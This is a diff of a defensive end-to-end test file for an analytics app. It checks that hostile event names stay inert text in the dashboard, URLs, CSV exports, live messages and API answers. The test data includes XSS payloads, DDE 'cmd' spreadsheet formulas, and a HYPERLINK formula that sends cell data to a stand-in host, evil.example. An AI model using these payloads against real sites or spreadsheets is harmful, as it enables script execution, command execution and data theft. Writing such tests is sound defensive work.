@@ -1,31 +1,232 @@
-"""Names of events come from anybody; on the dashboard they are text and nothing else."""
+"""Names of events come from anybody; on every way out they are text and nothing else."""
 
 from __future__ import annotations
 
-from playwright.sync_api import Browser, expect
+import csv
+import io
+import json
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+from urllib.parse import quote
 
+import pytest
+import requests
+from playwright.sync_api import Browser, Page, expect
+from redis import Redis
+
+from shared.stream import live_channel
 from tests.conftest import Installation
-from tests.e2e.test_snake import open_dashboard, public_key
 
-_HOSTILE = "<img src=x onerror=\"document.title='owned'\"> \"'&"
+# Each raises an alert where it is taken for HTML; the control below shows that it does.
+HTML = (
+    "<img src=x onerror=\"alert('img')\">",
+    "\"'><svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></svg>",
+    "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>",
+)
+SCRIPTS = (
+    "</script><script>alert('script')</script>",
+    "javascript:alert('link')",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert('template')}",
+    "'-alert('quote')-'",
+)
+FORMULAS = (
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "＝1+1",
+)  # fmt: skip
+HOSTILE = (*HTML, *SCRIPTS, *FORMULAS)
+_RUN_BY_SPREADSHEETS = tuple("=+-@\t\r\n＝＋－＠")  # OWASP: CSV injection
 
 
-def test_a_hostile_event_name_is_shown_as_text(
+def an_event(text: str) -> dict[str, Any]:
+    """One that is hostile wherever it can be."""
+    return {
+        "event": text,
+        "distinct_id": text,
+        "source": text[:50],
+        "page_url": f"javascript:alert('page')//{text}",
+        "referrer": f"javascript:alert('referrer')//{text}",
+        "properties": {text: text, "nested": {text: [text]}, "$browser": text, "title": text},
+    }
+
+
+@pytest.fixture(scope="module")
+def project(installation: Installation) -> dict[str, Any]:
+    """A project with a hostile name that such events were stored in."""
+    made = installation.new_project(HTML[0])
+    answer = installation.ingest(made["public_key"], [an_event(text) for text in HOSTILE])
+    assert answer.json()["accepted"] == len(HOSTILE), answer.text
+    installation.wait_until_stored()
+    return made
+
+
+@contextmanager
+def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
+    """A page, and what alerted in it."""
+    page = browser.new_context(viewport={"width": 1440, "height": 1000}).new_page()
+    alerts: list[str] = []
+
+    def noted(dialog: Any) -> None:
+        alerts.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", noted)
+    yield page, alerts
+    page.context.close()
+
+
+@pytest.mark.parametrize("text", HTML)
+def test_the_control_a_careless_page_would_raise_an_alert(browser: Browser, text: str) -> None:
+    with watched(browser) as (page, alerts):
+        page.set_content("<div id=out></div>")
+        page.evaluate("text => { document.getElementById('out').innerHTML = text }", text)
+        page.wait_for_timeout(500)
+        assert alerts
+
+
+def test_the_dashboard_shows_hostile_texts_as_texts(
+    browser: Browser, installation: Installation, project: dict[str, Any]
+) -> None:
+    with watched(browser) as (page, alerts):
+        page.goto(f"{installation.url}/login")
+        page.get_by_label("E-mail").fill(installation.credentials["email"])
+        page.locator("input[type=password]").fill(installation.credentials["password"])
+        page.get_by_role("button", name="Log in").click()
+        # The list of projects shows the name, and the project's page everything that it got.
+        expect(page.get_by_text(HTML[0], exact=False).first).to_be_visible(timeout=20_000)
+        page.goto(f"{installation.url}/projects/{project['id']}")
+        feed = page.get_by_role("region", name="Recent events")
+        for text in HTML:
+            shown = feed.get_by_role("button", name=text[:20]).first
+            expect(shown).to_be_visible(timeout=20_000)
+            shown.click()
+        for chart in page.get_by_role("img").all():
+            box = chart.bounding_box() or {"width": 0, "height": 0}
+            for part in (0.1, 0.3, 0.5, 0.7, 0.9):
+                where = {"x": box["width"] * part, "y": box["height"] * part}
+                chart.hover(position=where, force=True)  # type: ignore[arg-type]
+                page.wait_for_timeout(50)
+        page.wait_for_timeout(500)
+        assert alerts == []
+        for selector in (
+            "img[src=x]",
+            "animate[onbegin]",
+            "iframe[srcdoc]",
+            "a[href^='javascript:' i]",
+        ):
+            assert page.locator(selector).count() == 0, selector
+
+
+@pytest.mark.parametrize("path", ["/", "/projects/1", "/demo/snake/", "/api/v1/docs/"])
+def test_even_if_a_page_were_careless_nothing_inline_would_run(
+    browser: Browser, installation: Installation, path: str
+) -> None:
+    """The content security policy is the second lock."""
+    with watched(browser) as (page, alerts):
+        page.goto(installation.url + path)
+        for text in (*HTML, *SCRIPTS):
+            page.evaluate(
+                "text => { const place = document.createElement('div');"
+                " document.body.append(place); place.innerHTML = text;"
+                " const script = document.createElement('script');"
+                " script.textContent = \"alert('inline')\"; document.body.append(script); }",
+                text,
+            )
+        page.wait_for_timeout(500)
+        assert alerts == []
+
+
+def test_a_hostile_address_of_a_page_is_not_run(
     browser: Browser, installation: Installation
 ) -> None:
-    dashboard = open_dashboard(browser, installation)
-    for _ in range(3):
-        answer = installation.ingest(
-            public_key(dashboard), {"event": _HOSTILE, "properties": {_HOSTILE: _HOSTILE}}
+    with watched(browser) as (page, alerts):
+        for text in (*HTML, *SCRIPTS):
+            for path in (
+                f"/login?next={quote(text)}&sign_in={quote(text)}",
+                f"/invitation#{text}",
+                f"/{quote(text, safe='')}",
+                f"/api/v1/docs/?url={quote(text)}",
+            ):
+                page.goto(installation.url + path)
+        page.wait_for_timeout(300)
+        assert alerts == []
+
+
+def test_no_cell_of_a_csv_export_is_a_formula(
+    installation: Installation, project: dict[str, Any]
+) -> None:
+    answer = requests.get(
+        f"{installation.url}/api/v1/analytics/{project['id']}/exports/events",
+        params={"period": "7d", "format": "csv"},
+        headers={"X-API-Key": project["secret_key"]},
+        timeout=30,
+    )
+    assert answer.status_code == 200
+    assert answer.headers["Content-Type"].startswith("text/csv")
+    assert answer.headers["Content-Disposition"].startswith("attachment")
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
+    cells = [cell for row in rows for cell in row.values()]
+    assert [cell for cell in cells if cell.startswith(_RUN_BY_SPREADSHEETS)] == []
+    # What was sent is still there, behind an apostrophe at most.
+    names = {row["event_name"].removeprefix("'") for row in rows}
+    assert names == {text.removeprefix("'") for text in HOSTILE}
+
+
+def test_what_live_views_are_sent_is_json_that_says_what_came_in(
+    installation: Installation,
+) -> None:
+    project = installation.new_project("live")
+    with Redis.from_url(installation.environment["REDIS_URL"]) as redis, redis.pubsub() as listener:
+        listener.subscribe(live_channel(project["id"]))
+        installation.ingest(project["public_key"], [an_event(text) for text in HOSTILE])
+        names: set[str] = set()
+        deadline = time.monotonic() + 20
+        while names != set(HOSTILE) and time.monotonic() < deadline:
+            message = listener.get_message(ignore_subscribe_messages=True, timeout=1)
+            if message is not None:
+                names |= set(_texts(json.loads(message["data"]))) & set(HOSTILE)
+    assert names == set(HOSTILE)
+
+
+def _texts(value: Any) -> Iterator[str]:
+    """Every text in a message."""
+    if isinstance(value, str):
+        yield value
+    for part in (
+        value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
+    ):
+        yield from _texts(part)
+
+
+def test_answers_that_repeat_what_was_asked_are_never_pages(
+    installation: Installation, project: dict[str, Any]
+) -> None:
+    secret = {"X-API-Key": project["secret_key"]}
+    analytics = f"/api/v1/analytics/{project['id']}"
+    for text in (*HTML, *SCRIPTS):
+        for path in (
+            f"{analytics}/top-events?period={quote(text, safe='')}",
+            f"{analytics}/persons/?search={quote(text, safe='')}",
+            f"{analytics}/definitions/properties?search={quote(text, safe='')}",
+            f"/api/v1/auth/oidc/callback?error={quote(text, safe='')}",
+            f"/array/{quote(text, safe='')}/config",
+            f"/api/v1/{quote(text, safe='')}",
+        ):
+            answer = requests.get(
+                installation.url + path, headers=secret, timeout=10, allow_redirects=False
+            )
+            kind = answer.headers.get("Content-Type", "application/json")
+            assert kind.startswith("application/json"), (path, kind)
+            if answer.content:
+                assert answer.headers["X-Content-Type-Options"] == "nosniff", path
+        script = requests.get(
+            f"{installation.url}/array/{quote(text, safe='')}/config.js", timeout=10
         )
-        assert answer.json()["accepted"] == 1
-    feed = dashboard.get_by_role("region", name="Recent events")
-    first = feed.get_by_role("button", name="<img src=x").first
-    expect(first).to_be_visible(timeout=20_000)
-    first.click()
-    chart = dashboard.get_by_role("img", name="Events over time")
-    chart.hover(position={"x": 700, "y": 150})
-    dashboard.get_by_role("img", name="Most frequent events").hover(position={"x": 300, "y": 20})
-    dashboard.wait_for_timeout(500)
-    assert "owned" not in dashboard.title()
-    assert dashboard.locator("img[src=x]").count() == 0
+        assert "alert" not in script.text
